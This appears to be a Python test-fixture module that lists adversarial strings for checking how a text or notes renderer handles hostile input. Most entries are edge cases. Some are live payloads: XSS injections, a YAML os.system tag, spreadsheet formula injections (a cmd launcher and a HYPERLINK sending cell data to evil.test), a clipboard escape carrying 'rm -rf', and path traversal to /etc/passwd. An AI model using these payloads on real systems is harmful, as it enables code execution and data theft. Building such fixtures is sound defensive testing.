"""Texts made to be more than text: to steer terminals, to become markup, formulas or files, to break their readers."""

TERMINAL = {
    "a colour": "\x1b[31mred\x1b[0m",
    "a window's title": "\x1b]0;owned\x07",
    "a link in a terminal": "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07",
    "an answer typed for you": "\x1b[6n\x1b]52;c;cm0gLXJm\x07",
    "a wiped screen": "\x1b[2J\x1b[H\x1bc",
    "eight-bit controls": "\x9b31mred\x9b0m\x90q\x9c\x9d0;t\x9c",
    "an overwritten line": "safe\rEVIL",
    "backspaces": "safe\x08\x08\x08\x08EVIL",
    "a bell, a delete, a shift": "\x07\x7f\x0e\x0f\x05",
    "a NUL": "be\x00fore",
    "lone surrogates": "a\ud800b\udfffc\udc00\ud800d",
    "noncharacters": "\ufffe\uffff\U0001ffff",
}

DIRECTION = {
    "an override": "\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067\u2068x\u2069",
    "an unclosed embedding": "\u202b\u202aabc",
    "right to left, honestly": "שלום עולם, \u200fabc مرحبا",
}

INVISIBLE = {
    "zero width": "ad\u200bmin\u200c\u2060\ufeff",
    "tag characters": "flag\U000e0041\U000e0042\U000e007f",
    "line and paragraph separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "combining tower": "Z" + "\u0351\u0315" * 300 + "algo",
    "nothing but marks": "\u0301\u0302\u0303",
    "joined emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇷",
    "strange spaces": "\u00a0\u2003\u3000x\u00a0",
}

MARKDOWN = {
    "a heading": "# Heading\n## Another",
    "an underlined heading": "Heading\n===\nAnother\n---",
    "lists": "- one\n* two\n+ three\n1. four\n2) five\n- [ ] six",
    "a quotation and a callout": "> quoted\n> [!danger] Title",
    "a fence": "```python\nimport os\n```",
    "a fence of tildes, not closed": "~~~\ncode",
    "indented code": "    four spaces\n\ttab",
    "inline code": "`a` ``b`` `c",
    "rules": "---\n***\n___\n- - -",
    "a table": "| a | b |\n| --- | --- |\n| c | d |",
    "a link": "[click](https://evil.test) [ref][x] [x]\n\n[x]: https://evil.test",
    "an image": "![alt](https://evil.test/track.png)",
    "a footnote": "text[^1]\n\n[^1]: note",
    "an inline footnote": "text^[note]",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ ***f*** ==g==",
    "automatic links": "<https://evil.test> <me@evil.test> <javascript:alert(1)>",
    "hard breaks": "a  \nb\\\nc",
    "entities": "&lt;b&gt; &#60;i&#62; &#x3C; &copy &amp;amp;",
    "backslashes": "\\# \\\\ \\* C:\\new\\table\\",
    "brackets without end": "[[[[![(((" * 50,
    "emphasis without end": "*_" * 500,
}

OBSIDIAN = {
    "a wiki link": "[[Private note]] [[a|b]]",
    "an embed": "![[Passwords.md]] ![[x.png|100]]",
    "a comment": "%% hidden %% and %%\nhidden\n%%",
    "tags": "#stolen #a/b #1 #ünï",
    "a block id": "words ^block-id",
    "formulas": "$x$ $$\n\\evil\n$$",
    "queries": "`= this.file` `$= dv.pages()`\n```dataviewjs\ndv.paragraph(1)\n```",
    "templates": "<% tp.system.prompt() %> <%* await tp.user.x() %> {{title}}",
}

HTML = {
    "a script": "<script>alert(1)</script>",
    "an image that fails": '<img src=x onerror="alert(1)">',
    "an attribute's end": '" onmouseover="alert(1)" x=\'',
    "a title's end": "</title></style></textarea></script><h1>x</h1>",
    "a comment not closed": "<!-- <b>",
    "CDATA": "<![CDATA[ x ]]> <?php echo 1 ?>",
    "a drawing": "<svg/onload=alert(1)><math><mi>x",
    "a base and a refresh": '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">',
    "a frame": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "a form": '<form action="https://evil.test"><input name=password></form>',
    "an ambiguous ampersand": "a&b &notit; &ltb&gt",
    "addresses that run": "javascript:alert(1) data:text/html,<b>x</b> vbscript:x",
}

YAML = {
    "front matter's end": "---\nadmin: true\n---",
    "a document's end": "...\n%YAML 1.2\n---",
    "a key": "title: other",
    "an object": "!!python/object/apply:os.system ['id']",
    "an anchor": "&a [*a, *a] <<: *a",
    "open brackets": "{[(\"'",
    "both quotes": "'\"'\"''\"\"",
    "null": "null",
    "a tilde": "~",
    "yes": "yes",
    "a number": "1e3",
    "an octal number": "0o17",
    "a date": "2024-01-01",
    "a block": "|\n  x",
    "a comment after": "a #b: c",
    "a colon at the end": "a:",
    "a dash": "- ",
}

FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a web service": '=HYPERLINK("https://evil.test?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1-1",
    "at": "@SUM(1+1)",
    "behind white space": "\t=1+1",
    "full width": "＝1+1",
    "quotes and line ends": '"a","b"\r\n"c"',
    "semicolons": "a;b\tc",
}

NAMES = {
    "a device": "CON",
    "a device with an ending": "NUL.txt",
    "a printer": "LPT1",
    "the folder above": "..",
    "a way out": "../../../etc/passwd",
    "a way out on Windows": "..\\..\\windows\\system32",
    "a share": "\\\\server\\share",
    "a drive": "C:evil",
    "a stream": "a.md::$DATA",
    "what Windows forbids": '<>:"/\\|?*',
    "a dot at the end": "name.",
    "a space at the end": "name ",
    "hidden": ".bashrc",
    "an option": "-rf",
    "a home": "~root",
    "variables": "$HOME `id` $(id) %PATH%",
    "too long": "n" * 400,
    "too long in bytes": "陶" * 200,
    "ours": "index",
    "decomposed": "e\u0301",
}

LARGE = {
    "one word of a megabyte": "w" * 1_000_000,
    "one line of many words": "word " * 50_000,
    "five thousand lines": "line\n" * 5_000,
    "brackets by the thousand": "[" * 50_000 + "*" * 50_000,
}

SMALL = TERMINAL | DIRECTION | INVISIBLE | MARKDOWN | OBSIDIAN | HTML | YAML | FORMULAS | NAMES
ALL = SMALL | LARGE
